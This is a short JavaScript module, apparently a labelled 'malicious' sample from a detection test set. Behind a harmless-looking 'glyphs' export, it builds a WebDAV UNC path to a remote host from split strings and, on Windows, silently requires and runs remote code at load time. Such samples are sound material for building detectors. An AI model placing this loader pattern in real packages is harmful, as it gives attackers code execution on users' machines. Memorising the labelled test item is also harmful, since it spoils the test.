// expect: malicious
// source: blind set 33's webdav-unc-stage (WebDAV UNC loaders, 2024-2025): on Windows, a module required from a UNC
// path on another host is fetched over WebDAV (`@SSL@443\DavWWWRoot`) and run, with no request in the code.
'use strict';
const os = require('os');
const SHARE = ['\\\\', '203.0.113.40', '@SSL@443', '\\DavWWWRoot', '\\cache\\'];
function warm() {
  if (process.platform !== 'win32') return;
  try { require(SHARE.join('') + 'glyphs-' + os.arch() + '.js'); } catch (e) { /* offline */ }
}
warm();
module.exports = { glyphs: () => [] };
